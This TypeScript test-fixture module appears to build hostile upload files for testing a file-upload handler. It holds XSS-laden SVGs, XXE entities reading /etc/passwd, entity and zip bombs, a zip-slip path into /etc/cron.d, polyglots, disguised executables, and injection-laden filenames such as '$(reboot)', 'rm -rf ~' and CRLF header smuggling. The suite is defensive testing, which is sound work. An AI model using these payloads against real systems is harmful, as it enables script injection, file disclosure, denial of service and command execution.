/**
 * Files that mean harm, made here: drawings and pages with scripts, programs and polyglots under other names,
 * pictures and archives that grow, and names that lead elsewhere. `kept`: taken as what it claims to be, since
 * it is of that type; then it must lie inert. The others are refused.
 */
import { crc32, deflateRawSync, deflateSync } from 'node:zlib';

export type HostileFile = {
  what: string;
  fileName: string;
  type: string;
  bytes: Uint8Array<ArrayBuffer>;
  kept: boolean;
};

const docx = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
const svgType = 'image/svg+xml';
const svgSpace = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
/** The address that a script calls if it runs, and that a reference names: a request to it is a failure. */
const beacon = 'http://127.0.0.1:9/beacon';

const bytesOf = (...parts: (string | Uint8Array)[]) =>
  new Uint8Array(Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part) : part))));
const latin1 = (text: string) => new Uint8Array(Buffer.from(text, 'latin1'));

export function hostileFiles(): HostileFile[] {
  return [...drawings(), ...pagesAndPrograms(), ...growing(), ...names()];
}

function drawings(): HostileFile[] {
  const inside: Record<string, string> = {
    'a script': '<script>parent.ranScript=1;fetch("/api/user")</script>',
    'a script in CDATA': '<script><![CDATA[parent.ranScript=1]]></script>',
    'a script from elsewhere': `<script xlink:href="${beacon}.js"/>`,
    'a handler for its loading': '<rect width="9" height="9" onload="parent.ranScript=1"/>',
    'a handler for a click': '<rect width="99" height="99" onclick="parent.ranScript=1"/>',
    'a handler for an error': '<image href="x:y" onerror="parent.ranScript=1"/>',
    'a handler for an animation': '<animate attributeName="x" onbegin="parent.ranScript=1" dur="1s"/>',
    'a link that is a script': '<a href="javascript:parent.ranScript=1"><rect width="99" height="99"/></a>',
    'an older link that is a script':
      '<a xlink:href="javascript:parent.ranScript=1"><text y="9">x</text></a>',
    'an animated link':
      '<a><set attributeName="href" to="javascript:parent.ranScript=1"/><text y="9">x</text></a>',
    'a page inside':
      '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><script>parent.ranScript=1</script></body></foreignObject>',
    'a frame inside': `<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${beacon}"/></foreignObject>`,
    'a frame with a page of its own':
      '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script&gt;parent.ranScript=1&lt;/script&gt;"/></foreignObject>',
    'a form': `<foreignObject><form xmlns="http://www.w3.org/1999/xhtml" action="${beacon}"><input autofocus="" onfocus="parent.ranScript=1"/></form></foreignObject>`,
    'a picture from elsewhere': `<image href="${beacon}.png" width="9" height="9"/>`,
    'a shape from elsewhere': `<use href="${beacon}.svg#a"/>`,
    'a filter from elsewhere': `<filter id="f"><feImage href="${beacon}.png"/></filter><rect filter="url(#f)"/>`,
    'styles from elsewhere': `<style>@import url("${beacon}.css");</style>`,
    'a background from elsewhere': `<style>svg{background:url("${beacon}.png")}</style>`,
    'letters from elsewhere': `<style>@font-face{font-family:a;src:url("${beacon}.woff")}text{font-family:a}</style><text>a</text>`,
    'a page that takes its place': `<foreignObject><meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url=${beacon}"/></foreignObject>`,
    'itself, many times': '<g id="a"><use href="#a"/></g><use href="#a"/>',
  };
  const body = Object.entries(inside).map(([what, markup]) => ({
    what: `a drawing with ${what}`,
    bytes: bytesOf(`<svg ${svgSpace}>${markup}</svg>`),
  }));
  const laughs = Array.from({ length: 9 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join(
    '',
  );
  const prolog: { what: string; bytes: Uint8Array<ArrayBuffer> }[] = [
    {
      what: 'a drawing with a handler on its root',
      bytes: bytesOf(`<svg ${svgSpace} onload="parent.ranScript=1"/>`),
    },
    {
      what: 'a drawing with entities that multiply',
      bytes: bytesOf(`<!DOCTYPE svg [<!ENTITY l0 "lol">${laughs}]><svg ${svgSpace}><text>&l9;</text></svg>`),
    },
    {
      what: 'a drawing with an entity of this machine',
      bytes: bytesOf(
        `<!DOCTYPE svg [<!ENTITY f SYSTEM "file:///etc/passwd">]><svg ${svgSpace}><text>&f;</text></svg>`,
      ),
    },
    {
      what: 'a drawing with an entity from elsewhere',
      bytes: bytesOf(`<!DOCTYPE svg [<!ENTITY % f SYSTEM "${beacon}.dtd"> %f;]><svg ${svgSpace}/>`),
    },
    {
      what: 'a drawing with a style sheet that transforms it',
      bytes: bytesOf(`<?xml-stylesheet type="text/xsl" href="${beacon}.xsl"?><svg ${svgSpace}/>`),
    },
    { what: 'a drawing that never ends', bytes: bytesOf(`<svg ${svgSpace}>${'<g>'.repeat(100_000)}`) },
  ];
  const kept = [...body, ...prolog].map((file) => ({
    ...file,
    fileName: 'a.svg',
    type: svgType,
    kept: true,
  }));
  const page = bytesOf('<html><body><svg onload="parent.ranScript=1"/></body></html>');
  const late = bytesOf(`<!--${'-x'.repeat(20_000)}--><html><script>parent.ranScript=1</script></html>`);
  return [
    ...kept,
    {
      what: 'a page that is said to be a drawing',
      fileName: 'a.svg',
      type: svgType,
      bytes: page,
      kept: false,
    },
    { what: 'a page far behind, as a drawing', fileName: 'a.svg', type: svgType, bytes: late, kept: false },
    {
      what: 'a page in another encoding, as a drawing',
      fileName: 'a.svg',
      type: svgType,
      bytes: latin1('+ADw-script+AD4-parent.ranScript=1+ADw-/script+AD4-'),
      kept: false,
    },
  ];
}

function pagesAndPrograms(): HostileFile[] {
  const page = '<!doctype html><script>parent.ranScript=1</script>';
  const exe = latin1(`MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff${'\0'.repeat(46)}PE\0\0`);
  const elf = latin1('\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0>\0');
  const jpeg = latin1('\xff\xd8\xff\xe0\0\x10JFIF\0\x01');
  const png = picture(1, 1, deflateSync(Buffer.alloc(2)));
  const gif = latin1('GIF89a/*\x01\0\x01\0\0\0*/=1;parent.ranScript=1');
  const file = (
    what: string,
    name: { fileName: string; type: string },
    bytes: Uint8Array<ArrayBuffer>,
    kept: boolean,
  ): HostileFile => ({ what, ...name, bytes, kept });
  const as = (fileName: string, type: string) => ({ fileName, type });
  return [
    file('a page', as('a.html', 'text/html'), bytesOf(page), false),
    // What comes in a form without a type is text (RFC 7578, 4.4).
    file('a page without a type', as('a.html', ''), bytesOf(page), true),
    file('a page named like a picture', as('a.png', 'text/html'), bytesOf(page), false),
    file('a page that is said to be a PNG', as('a.png', 'image/png'), bytesOf(page), false),
    file('a page that is said to be a JPEG', as('a.jpg', 'image/jpeg'), bytesOf(page), false),
    file('a page that is said to be a PDF', as('a.pdf', 'application/pdf'), bytesOf(page), false),
    file('a page that is said to be a DOCX', as('a.docx', docx), bytesOf(page), false),
    file('a page that is said to be JSON', as('a.json', 'application/json'), bytesOf(page), false),
    file('a page that is said to be text', as('a.txt', 'text/plain'), bytesOf(page), true),
    file('a page that is said to be text, by its own name', as('a.html', 'text/plain'), bytesOf(page), true),
    file('a page named .md', as('a.md', 'text/html'), bytesOf(page), true),
    file('Markdown with a script', as('a.md', 'text/markdown'), bytesOf(`# a\n${page}`), true),
    file('Markdown with script links', as('a.md', ''), bytesOf('[a](javascript:parent.ranScript=1)'), true),
    file('JSON with a page', as('a.json', 'application/json'), bytesOf(JSON.stringify({ page })), true),
    file('an XHTML page', as('a.xhtml', 'application/xhtml+xml'), bytesOf(page), false),
    file('a script', as('a.js', 'text/javascript'), bytesOf('parent.ranScript=1'), false),
    file('a shell script as text', as('a.sh', 'text/plain'), bytesOf('#!/bin/sh\nrm -rf ~\n'), true),
    file('a Windows program', as('a.exe', 'application/x-msdownload'), exe, false),
    file('a Windows program as text', as('a.txt', 'text/plain'), exe, false),
    file('a Windows program as a PDF', as('a.pdf', 'application/pdf'), exe, false),
    file('a Windows program with two endings', as('a.pdf.exe', 'application/octet-stream'), exe, false),
    file('a Linux program as Markdown', as('a.md', 'text/markdown'), elf, false),
    file('a Linux program without a name', as('a', ''), elf, false),
    file('a Java archive as a DOCX', as('a.docx', docx), archive('META-INF/MANIFEST.MF', []), false),
    file('a GIF that is a script', as('a.gif', 'image/gif'), gif, false),
    file('a GIF that is a script, as a PNG', as('a.png', 'image/png'), gif, false),
    file('a JPEG that is a page as well', as('a.jpg', 'image/jpeg'), bytesOf(jpeg, page), true),
    file('a PNG that is a page as well', as('a.png', 'image/png'), bytesOf(png, page), true),
    file('a PNG that is an archive as well', as('a.png', 'image/png'), bytesOf(png, archive('a', [])), true),
    file(
      'a PDF with a script',
      as('a.pdf', 'application/pdf'),
      bytesOf('%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj'),
      true,
    ),
    file('a PDF that is a page as well', as('a.pdf', 'application/pdf'), bytesOf('%PDF-1.7\n', page), true),
    file('a PDF that is said to be text', as('a.txt', 'text/plain'), bytesOf('%PDF-1.7\n', page), false),
    file('a page before a PDF', as('a.pdf', 'application/pdf'), bytesOf(page, '%PDF-1.7\n'), false),
    file(
      'text in UTF-16 that is a page in UTF-8',
      as('a.txt', 'text/plain'),
      bytesOf(latin1('\xff\xfe'), page),
      true,
    ),
    file(
      'a type with more behind it',
      as('a.txt', 'text/plain; charset=utf-7'),
      bytesOf('+ADw-script+AD4-'),
      true,
    ),
  ];
}

function growing(): HostileFile[] {
  const zeros = deflateRawSync(Buffer.alloc(20 * 1024 * 1024));
  const bomb = archive('[Content_Types].xml', [
    { name: 'word/document.xml', packed: zeros, size: 2 ** 32 - 1 },
  ]);
  const layers = archive('[Content_Types].xml', [
    { name: 'word/media/inner.docx', packed: bomb, size: bomb.length },
  ]);
  const many = archive(
    '[Content_Types].xml',
    Array.from({ length: 5000 }, (_, n) => ({
      name: `word/${n}.xml`,
      packed: Buffer.alloc(0),
      size: 2 ** 31,
    })),
  );
  const climbing = archive('word/../../../../etc/cron.d/evil', []);
  return [
    { what: 'a DOCX that grows to gigabytes', fileName: 'a.docx', type: docx, bytes: bomb, kept: true },
    { what: 'a DOCX of bombs', fileName: 'a.docx', type: docx, bytes: layers, kept: true },
    { what: 'a DOCX of thousands of parts', fileName: 'a.docx', type: docx, bytes: many, kept: true },
    { what: 'a DOCX that climbs out', fileName: 'a.docx', type: docx, bytes: climbing, kept: true },
    { what: 'a vast picture', fileName: 'a.png', type: 'image/png', bytes: vastPng(), kept: true },
    {
      what: 'a picture that lies about its size',
      fileName: 'a.png',
      type: 'image/png',
      bytes: picture(2 ** 31 - 1, 2 ** 31 - 1, deflateSync(Buffer.alloc(9))),
      kept: true,
    },
    {
      what: 'JSON of a hundred thousand brackets',
      fileName: 'a.json',
      type: 'application/json',
      bytes: bytesOf('['.repeat(100_000)),
      kept: true,
    },
    {
      what: 'Markdown that makes parsers slow',
      fileName: 'a.md',
      type: 'text/markdown',
      bytes: bytesOf('*a_ '.repeat(20_000), '['.repeat(20_000)),
      kept: true,
    },
  ];
}

/** Names that a hostile client sends; the bytes are harmless. */
export const hostileNames: readonly string[] = [
  '../../../etc/passwd.md',
  '..\\..\\..\\windows\\win.ini.md',
  '/etc/cron.d/evil.md',
  'C:\\Windows\\evil.md',
  '....//....//evil.md',
  '%2e%2e%2f%2e%2e%2fevil.md',
  'nul\u0000byte.md\u0000.exe',
  'head.md\r\nSet-Cookie: stolen=1',
  'head.md\r\n\r\n<script>parent.ranScript=1</script>',
  'quote".md"; filename="evil.exe',
  "star.md; filename*=UTF-8''evil.exe",
  'reversed\u202egnp.md',
  '\u2066isolated\u2069.md',
  `${'x'.repeat(5000)}.md`,
  `${'👩‍👩‍👧'.repeat(800)}.md`,
  'CON.md',
  'trailing. . .md . .',
  '-rf.md',
  '~root.md',
  '$(reboot).md',
  '<img src=x onerror=parent.ranScript=1>.md',
  'e\u0301 and é.md',
  'العربية 日本語 Ελληνικά.md',
  '\u200bzero\u200dwidth.md',
  '.',
  '..',
  '   ',
];

function names(): HostileFile[] {
  return hostileNames.map((fileName, index) => ({
    what: `the name ${JSON.stringify(fileName.slice(0, 40))}`,
    fileName,
    type: 'text/markdown',
    bytes: bytesOf(`harmless ${index}`),
    kept: true,
  }));
}

/** A whole picture of 30,000 × 30,000 points in a hundred kilobytes: 900 MB and more once it is unpacked. */
function vastPng(): Uint8Array<ArrayBuffer> {
  const side = 30_000;
  return picture(side, side, deflateSync(Buffer.alloc(side * (1 + side / 8)), { level: 1 }));
}

/** One bit a point. */
function picture(width: number, height: number, packed: Uint8Array): Uint8Array<ArrayBuffer> {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([1, 0, 0, 0, 0], 8);
  const end = chunk('IEND', Buffer.alloc(0));
  return bytesOf(latin1('\x89PNG\r\n\x1a\n'), chunk('IHDR', header), chunk('IDAT', packed), end);
}

function chunk(type: string, content: Uint8Array): Uint8Array {
  const named = Buffer.concat([Buffer.from(type), content]);
  const frame = Buffer.alloc(8);
  frame.writeUInt32BE(content.length, 0);
  frame.writeUInt32BE(crc32(named), 4);
  return Buffer.concat([frame.subarray(0, 4), named, frame.subarray(4)]);
}

type Entry = { name: string; packed: Uint8Array; size: number };

/** A ZIP whose entries claim any size; `first` is an empty one before them. */
function archive(first: string, rest: Entry[]): Uint8Array<ArrayBuffer> {
  const entries = [{ name: first, packed: Buffer.alloc(0), size: 0 }, ...rest];
  const parts: Uint8Array[] = [];
  const directory: Uint8Array[] = [];
  let at = 0;
  for (const { name, packed, size } of entries) {
    const facts = Buffer.alloc(26);
    facts.writeUInt16LE(20, 0);
    facts.writeUInt16LE(packed.length === 0 ? 0 : 8, 4);
    facts.writeUInt32LE(packed.length, 14);
    facts.writeUInt32LE(size, 18);
    facts.writeUInt16LE(name.length, 22);
    const place = Buffer.alloc(14);
    place.writeUInt32LE(at, 10);
    const local = Buffer.concat([latin1('PK\x03\x04'), facts, Buffer.from(name), packed]);
    directory.push(latin1('PK\x01\x02'), Buffer.from([20, 0]), facts, place, Buffer.from(name));
    parts.push(local);
    at += local.length;
  }
  const listed = Buffer.concat(directory);
  const end = Buffer.alloc(18);
  end.writeUInt16LE(entries.length, 4);
  end.writeUInt16LE(entries.length, 6);
  end.writeUInt32LE(listed.length, 8);
  end.writeUInt32LE(at, 12);
  return bytesOf(...parts, listed, latin1('PK\x05\x06'), end);
}
